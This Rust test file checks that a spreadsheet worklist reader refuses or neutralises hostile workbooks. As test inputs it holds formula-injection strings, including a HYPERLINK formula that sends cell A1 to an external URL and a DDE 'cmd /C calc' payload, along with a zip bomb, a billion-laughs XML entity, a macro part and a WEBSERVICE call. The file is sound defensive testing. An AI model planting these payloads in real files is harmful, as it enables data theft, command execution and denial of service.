//! Texts and files that mean harm.

use std::io::{Cursor, Write};
use std::time::Instant;

use stoplicht_core::Language;
use stoplicht_report::worklist::{Audience, ReadError, WorkbookLimits, read};
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

use crate::support::rows;
use crate::worklist::{back, expected, key, parts, with_libreoffice, with_openpyxl, workbook};

const EVIL: [&str; 9] = [
    "=HYPERLINK(\"http://example.org/?\"&A1,\"klik\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "http://example.org/",
    "_x003D_1\u{0}\u{b}\u{202e}\u{fffe}<a>&amp;]]>",
];

fn evil_rows() -> Vec<stoplicht_report::worklist::WorklistRow> {
    let mut rows = rows(EVIL.len());
    for (row, text) in rows.iter_mut().zip(EVIL) {
        row.explanation = Some(text.to_owned());
        row.assessment.request_id = text.into();
        row.assessment.allocation_id = format!("{text}{}", row.assessment.allocation_id).into();
        row.timeline = Some(text.to_owned());
        for criterion in &mut row.assessment.criteria {
            criterion.text_nl = text.into();
            criterion.text_en = text.into();
        }
    }
    rows
}

#[test]
fn text_stays_text_whatever_it_begins_with() {
    for audience in [Audience::Provider, Audience::Worker] {
        let bytes = workbook(&evil_rows(), audience, Language::Nl);
        let text = parts(&bytes);
        assert!(!text.contains("<f>") && !text.contains("<hyperlink"), "no formula, no link");
        let whole = back(&bytes).unwrap();
        assert!(whole.refused.is_empty(), "{:?}", whole.refused);
        let check = "
for sheet in book.worksheets:
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != 'f' and cell.hyperlink is None, (sheet.title, cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value[:1] in '=+-@' and cell.value[:1] and sheet.sheet_state == 'visible':
                assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
";
        with_openpyxl(&bytes, check);
        if let Some(saved) = with_libreoffice(&bytes) {
            with_openpyxl(
                &saved,
                "
for sheet in book.worksheets:
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != 'f' and cell.hyperlink is None, (sheet.title, cell.coordinate, cell.value)
",
            );
            let back = back(&saved).unwrap();
            assert!(back.refused.is_empty(), "{:?}", back.refused);
        }
    }
}

#[test]
fn a_title_or_policy_name_cannot_command_the_footer() {
    let bytes = workbook(&rows(1), Audience::Worker, Language::Nl);
    assert!(parts(&bytes).contains("Voorbeeldzorg &amp;&amp; Co"));
}

/// The workbook with a part replaced or added.
pub fn with_part(bytes: &[u8], name: &str, content: impl Fn(&mut dyn Write)) -> Vec<u8> {
    let mut archive = ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut out = ZipWriter::new(Cursor::new(Vec::new()));
    for number in 0..archive.len() {
        let part = archive.by_index_raw(number).unwrap();
        if part.name().unwrap() != name {
            out.raw_copy_file(part).unwrap();
        }
    }
    out.start_file(name, SimpleFileOptions::default()).unwrap();
    content(&mut out);
    out.finish().unwrap().into_inner()
}

#[test]
fn a_zip_bomb_is_refused_at_once() {
    let bytes = workbook(&rows(3), Audience::Worker, Language::Nl);
    let bomb = with_part(&bytes, "xl/media/image1.png", |out| {
        let zeroes = vec![0u8; 1 << 20];
        (0..300).for_each(|_| out.write_all(&zeroes).unwrap());
    });
    assert!(bomb.len() < 1 << 20, "300 MB in {} bytes", bomb.len());
    assert_eq!(back(&bomb), Err(ReadError::UnpackedTooLarge));
    let many = (0..1_200).fold(ZipWriter::new(Cursor::new(Vec::new())), |mut out, number| {
        out.start_file(format!("part{number}"), SimpleFileOptions::default()).unwrap();
        out
    });
    assert_eq!(back(&many.finish().unwrap().into_inner()), Err(ReadError::TooMuch));
    let small = WorkbookLimits { file_bytes: 100, ..WorkbookLimits::default() };
    assert_eq!(read(&bytes, &key(), &expected(), &small), Err(ReadError::FileTooLarge));
}

#[test]
fn a_zip_that_lies_about_its_size_is_refused_where_it_is_read() {
    let bytes = workbook(&rows(3), Audience::Worker, Language::Nl);
    let lying = |name: &str| {
        let mut bomb = with_part(&bytes, name, |out| {
            let spaces = vec![b' '; 1 << 20];
            (0..300).for_each(|_| out.write_all(&spaces).unwrap());
        });
        // Wherever the true size stands, write 10.
        let size = (300u32 << 20).to_le_bytes();
        let places: Vec<usize> =
            bomb.windows(4).enumerate().filter(|(_, four)| *four == size).map(|(at, _)| at).collect();
        assert!(!places.is_empty());
        for at in places {
            bomb[at..at + 4].copy_from_slice(&10u32.to_le_bytes());
        }
        back(&bomb)
    };
    assert!(matches!(lying(SHEET), Err(ReadError::UnpackedTooLarge | ReadError::NotAWorkbook)));
    assert!(matches!(lying("xl/sharedStrings.xml"), Err(ReadError::UnpackedTooLarge | ReadError::NotAWorkbook)));
    // A picture is never unpacked, however large.
    assert!(lying("xl/media/image1.png").is_ok());
}

const SHEET: &str = "xl/worksheets/sheet2.xml";

#[test]
fn a_sheet_of_a_million_rows_is_refused_and_an_empty_giant_is_not() {
    let bytes = workbook(&rows(3), Audience::Worker, Language::Nl);
    let start = "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><dimension ref=\"A1:XFD1048576\"/><sheetData>";
    let million = with_part(&bytes, SHEET, |out| {
        write!(out, "{start}").unwrap();
        for row in 1..=1_048_576 {
            write!(out, "<row r=\"{row}\"><c r=\"A{row}\"><v>1</v></c></row>").unwrap();
        }
        write!(out, "</sheetData></worksheet>").unwrap();
    });
    let clock = Instant::now();
    assert_eq!(back(&million), Err(ReadError::TooMuch));
    println!("a million rows were refused in {:.0?}", clock.elapsed());
    // Two cells in opposite corners: seventeen thousand million cells, if one laid them out as a grid.
    let corners = with_part(&bytes, SHEET, |out| {
        write!(
            out,
            "{start}<row r=\"1\"><c r=\"A1\"><v>1</v></c></row><row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row></sheetData></worksheet>"
        )
        .unwrap();
    });
    assert_eq!(back(&corners), Err(ReadError::NoHeadings));
}

#[test]
fn macros_are_refused_and_links_to_elsewhere_are_not_followed() {
    let bytes = workbook(&rows(3), Audience::Worker, Language::Nl);
    let macros = with_part(&bytes, "xl/vbaProject.bin", |out| out.write_all(b"\xd0\xcf\x11\xe0").unwrap());
    assert_eq!(back(&macros), Err(ReadError::Macros));
    let link = "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><externalBook/></externalLink>";
    let links = with_part(&bytes, "xl/externalLinks/externalLink1.xml", |out| out.write_all(link.as_bytes()).unwrap());
    assert_eq!(back(&links).unwrap().undecided.len(), 3);
    // A formula that would fetch something is not worked out, and what it showed is not what somebody wrote.
    let script = "
sheet = book.worksheets[1]
at, col = head(sheet)
sheet.cell(at + 1, col['Opmerking']).value = '=WEBSERVICE(\"http://127.0.0.1:9/\")'
sheet.cell(at + 1, col['Besluit']).value = 'akkoord'
sheet.cell(at + 2, col['Besluit']).value = '=[1]Blad1!A1'
";
    if let Some(filled) = with_openpyxl(&bytes, script) {
        let back = back(&filled).unwrap();
        assert_eq!((back.decisions.len(), back.undecided.len(), back.refused.len()), (0, 1, 2));
    }
}

#[test]
fn xml_entities_are_not_expanded() {
    let bytes = workbook(&rows(3), Audience::Worker, Language::Nl);
    let laughs = with_part(&bytes, SHEET, |out| {
        write!(
            out,
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>\
             <worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"str\"><v>&b;&b;&b;</v></c></row></sheetData></worksheet>"
        )
        .unwrap();
    });
    assert!(back(&laughs).is_err());
}

#[test]
fn a_hidden_sheet_that_was_changed_is_refused() {
    let bytes = workbook(&rows(3), Audience::Worker, Language::Nl);
    let script = "
sheet = book['stoplicht']
for row in sheet.iter_rows(max_col=1):
    for cell in row:
        if 'green' in str(cell.value) or 'red' in str(cell.value):
            cell.value = cell.value.replace('\"red\"', '\"green\"').replace('\"orange\"', '\"green\"')
";
    if let Some(changed) = with_openpyxl(&bytes, script) {
        assert_eq!(back(&changed), Err(ReadError::Seal));
    }
    if let Some(gone) = with_openpyxl(&bytes, "del book['stoplicht']") {
        assert_eq!(back(&gone), Err(ReadError::NotAWorklist));
    }
}

#[test]
fn rubbish_is_no_workbook_and_never_a_panic() {
    let bytes = workbook(&rows(3), Audience::Worker, Language::Nl);
    for rubbish in [&b""[..], b"PK", b"\x00\xff\x13", b"%PDF-1.7", &bytes[..bytes.len() / 2]] {
        assert_eq!(back(rubbish), Err(ReadError::NotAWorkbook));
    }
    // A byte changed here and there: an answer or an error, never a panic.
    let mut state = 1u64;
    for _ in 0..400 {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        let mut changed = bytes.clone();
        let at = (state >> 33) as usize % changed.len();
        changed[at] ^= (state >> 20) as u8 | 1;
        let _ = back(&changed);
    }
}

/// The same, within the XML: parts that unpack well and say something else.
#[test]
fn a_sheet_that_says_something_else_is_never_a_panic() {
    let bytes = workbook(&rows(2), Audience::Worker, Language::Nl);
    let mut archive = ZipArchive::new(Cursor::new(&bytes)).unwrap();
    for name in [SHEET, "xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet4.xml"] {
        let mut part = Vec::new();
        std::io::Read::read_to_end(&mut archive.by_name(name).unwrap(), &mut part).unwrap();
        for step in 0..60 {
            let mut changed = part.clone();
            let at = step * 7_919 % changed.len();
            changed[at] = b"<>&\"0A=/"[step % 8];
            changed.truncate(changed.len() - if step % 5 == 0 { at / 2 } else { 0 });
            let _ = back(&with_part(&bytes, name, |out| out.write_all(&changed).unwrap()));
        }
    }
}
